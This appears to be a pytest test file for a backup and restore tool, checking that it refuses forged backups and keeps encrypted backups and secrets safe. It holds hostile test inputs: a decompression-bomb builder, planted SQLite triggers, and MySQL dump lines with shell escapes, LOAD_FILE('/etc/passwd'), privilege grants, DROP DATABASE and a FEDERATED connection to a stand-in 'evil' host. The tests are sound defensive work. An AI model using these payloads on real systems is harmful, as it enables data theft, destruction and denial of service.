"""A forged backup, and one that a thief has taken."""

import gzip
import hashlib
import io
import json
import sqlite3
import tarfile
import tracemalloc
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pyrage
import pytest

from izer_bridge.config.concealed import without_secrets
from izer_bridge.domain.errors import ConfigError
from izer_bridge.upkeep import archive, dump_check
from tests.upkeep.test_backup import content_of, repacked, saved, small, typed

__all__ = ["small"]
_DUMP = """/*M!999999\\- enable the sandbox mode */
-- MariaDB dump
/*!40101 SET NAMES utf8mb4 */;
DROP TABLE IF EXISTS `webhook_messages`;
CREATE TABLE `webhook_messages` (
  `id` bigint(20) NOT NULL COMMENT 'a view; a \\'trigger\\'',
  `text` longtext CHECK (json_valid(`text`))
) ENGINE=InnoDB;
INSERT INTO `webhook_messages` VALUES (1,'SELECT \\\\! rm; \\n CREATE TRIGGER x; it\\'s'),(2,NULL);
"""


def with_sums(backup: Path, change: Callable[[str, bytes], bytes]) -> Path:
    """A copy whose manifest agrees with the files that `change` has modified."""
    with tarfile.open(backup) as tar:
        contents = {entry.name: content_of(tar, entry.name) for entry in tar}
    changed = {name: change(name, content) for name, content in contents.items()}
    about: dict[str, Any] = json.loads(contents["manifest.json"])
    for one in about["files"]:
        content = changed[one["name"]]
        one |= {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    changed["manifest.json"] = json.dumps(about).encode()
    return repacked(backup, lambda name, _: (name, changed[name]))


@pytest.mark.attack("a backup whose database acts by itself")
@pytest.mark.parametrize("database", ["session.db", "inbox.db", "bridge.db"])
@pytest.mark.parametrize(
    ("planted", "said"),
    [
        ("CREATE TRIGGER evil AFTER INSERT ON t BEGIN DELETE FROM t; END", "the trigger 'evil'"),
        ("CREATE VIEW evil AS SELECT 1", "the view 'evil'"),
        ("CREATE VIRTUAL TABLE evil USING fts5(x)", "the table 'evil'"),
    ],
)
def test_what_acts_by_itself_is_refused(
    small: Path, tmp_path: Path, database: str, planted: str, said: str
) -> None:
    def plant(name: str, content: bytes) -> bytes:
        if name != database:
            return content
        file = tmp_path / "planted.db"
        file.write_bytes(content)
        with closing(sqlite3.connect(file)) as connection:
            connection.executescript(f"CREATE TABLE IF NOT EXISTS t (x); {planted}")
        return file.read_bytes()

    with closing(sqlite3.connect(small / "session.db")) as session:
        session.executescript("CREATE TABLE keys (id)")
    before = {one.name: one.read_bytes() for one in small.glob("*.db")}
    code, _, error = typed("restore", with_sums(saved(), plant))
    assert (code, len(error.splitlines())) == (2, 1)
    assert said in error
    assert before == {one.name: one.read_bytes() for one in small.glob("*.db")}


@pytest.mark.attack("a trigger that is planted in the store comes along in a backup")
def test_a_backup_takes_no_trigger_along(small: Path) -> None:
    with closing(sqlite3.connect(small / "bridge.db")) as store:
        store.executescript(
            "CREATE TRIGGER evil AFTER INSERT ON webhook_messages BEGIN DELETE FROM contacts; END;"
            "CREATE VIEW evil_too AS SELECT * FROM contacts"
        )
    assert typed("restore", saved())[0] == 0
    with closing(sqlite3.connect(small / "bridge.db")) as store:
        assert not store.execute("SELECT 1 FROM sqlite_master WHERE name LIKE 'evil%'").fetchall()


def _bomb(claimed: int, real: int, kind: bytes = tarfile.REGTYPE) -> io.BytesIO:
    """A few kB that unpack to `real` bytes and claim `claimed`."""
    name = "session.db"
    packed = {"name": name, "bytes": claimed, "sha256": "0" * 64}
    about = json.dumps(
        {"format": 1, "version": "1", "created_at": "", "schema": None, "files": [packed]}
    ).encode()
    made = io.BytesIO()
    with gzip.GzipFile(fileobj=made, mode="wb", compresslevel=1) as file:
        for entry, size, content in (("manifest.json", len(about), about), (name, real, None)):
            head = tarfile.TarInfo(entry)
            head.size, head.type = size, tarfile.REGTYPE if content else kind
            file.write(head.tobuf(tarfile.GNU_FORMAT))
            written = content or bytes(min(real, 64 * 1024 * 1024))
            file.write(written + bytes(-len(written) % tarfile.BLOCKSIZE))
        file.write(bytes(2 * tarfile.BLOCKSIZE))
    made.seek(0)
    return made


@pytest.mark.attack("a backup that unpacks to more than it says")
@pytest.mark.parametrize(
    ("claimed", "real", "kind"),
    [
        (10, 64 * 1024 * 1024, tarfile.REGTYPE),
        (64 * 1024 * 1024, 10, tarfile.REGTYPE),
        (1 << 60, 10, tarfile.REGTYPE),
        (-1, 10, tarfile.REGTYPE),
        # Data that tarfile itself reads into memory whole, before anybody sees an entry.
        (10, 1 << 34, tarfile.XHDTYPE),
        (10, 1 << 34, tarfile.GNUTYPE_LONGNAME),
        (10, 10, tarfile.SYMTYPE),
        (10, 10, tarfile.FIFOTYPE),
    ],
)
def test_an_archive_holds_what_its_manifest_says(
    tmp_path: Path, claimed: int, real: int, kind: bytes
) -> None:
    bomb = _bomb(claimed, real, kind)
    tracemalloc.start()
    with pytest.raises(ConfigError, match="is no backup, or it is damaged"):
        archive.unpack(bomb, tmp_path, "bomb.tar.gz")
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 8 * 1024 * 1024
    assert sum(one.stat().st_size for one in tmp_path.iterdir()) <= max(claimed, 10)


@pytest.mark.attack("a MySQL dump that runs something")
@pytest.mark.parametrize(
    "planted",
    [
        "\\! touch /tmp/x",
        "system touch /tmp/x",
        "source /etc/passwd",
        "DELIMITER //",
        "CREATE TRIGGER evil AFTER INSERT ON webhook_messages FOR EACH ROW DELETE FROM contacts;",
        "/*!50003 CREATE*/ /*!50017 DEFINER=`root`@`%`*/ /*!50003 TRIGGER evil */;",
        "CREATE VIEW evil AS SELECT 1;",
        "INSERT INTO contacts SELECT * FROM mysql.user;",
        "INSERT INTO contacts VALUES (LOAD_FILE('/etc/passwd'));",
        "SET GLOBAL general_log_file = '/tmp/x';",
        "GRANT ALL ON *.* TO evil;",
        "SET NAMES utf8; DROP DATABASE shop;",
        "CREATE TABLE t (x int) ENGINE=FEDERATED CONNECTION='mysql://evil/x';",
    ],
)
def test_a_dump_holds_tables_and_rows(tmp_path: Path, planted: str) -> None:
    file = tmp_path / "database.sql"
    file.write_text(_DUMP)
    dump_check.refuse_active(file)
    for text in (f"{_DUMP}{planted}\n", f"{planted}\n{_DUMP}"):
        file.write_text(text)
        with pytest.raises(ConfigError, match=r"database\.sql"):
            dump_check.refuse_active(file)


@pytest.mark.attack("a stolen backup is read")
def test_an_encrypted_backup_opens_with_its_identity_alone(
    small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with closing(sqlite3.connect(small / "session.db")) as session:
        session.executescript("CREATE TABLE keys (id)")
    shop, thief = pyrage.x25519.Identity.generate(), pyrage.x25519.Identity.generate()
    for name, identity in (("shop.txt", shop), ("thief.txt", thief)):
        (tmp_path / name).write_text(f"# created: today\n{identity}\n")
    monkeypatch.setenv("IZER_BACKUP__RECIPIENTS", json.dumps([str(shop.to_public())]))
    backup = saved()
    assert backup.name.endswith(".tar.gz.age")
    assert b"SQLite" not in backup.read_bytes()
    assert not list(small.glob(".backup-*"))
    for arguments, said in (
        ((), "is encrypted"),
        (("--identity", tmp_path / "thief.txt"), "does not open"),
        (("--identity", small / "inbox.db"), "expected"),
    ):
        code, _, error = typed("restore", backup, *arguments)
        assert (code, len(error.splitlines())) == (2, 1)
        assert said in error
    assert typed("restore", backup, "--identity", tmp_path / "shop.txt")[0] == 0
    monkeypatch.setenv("IZER_BACKUP__RECIPIENTS", '["age1wrong"]')
    code, _, error = typed("backup")
    assert (code, len(error.splitlines())) == (78, 1)


@pytest.mark.attack("what an URL hides stands in settings.json and config show")
@pytest.mark.parametrize(
    "url",
    [
        "https://hooks.example/geheim",
        "https://hooks.example?key=geheim",
        "https://hooks.example#geheim",
        "https://shop:geheim@hooks.example",
        "https://shop:ge/geheim@hooks.example/x",
        "https://hooks.example/x@geheim",
        "mysql://shop:geheim@db.example:3306/shop?ssl_key=geheim",
        "sqlite:////var/lib/shop.db?key=geheim",
        "whsec_geheim",
    ],
)
def test_of_an_url_only_who_is_called_is_shown(url: str) -> None:
    assert "geheim" not in json.dumps(without_secrets("any.key", [{"url": url}]))
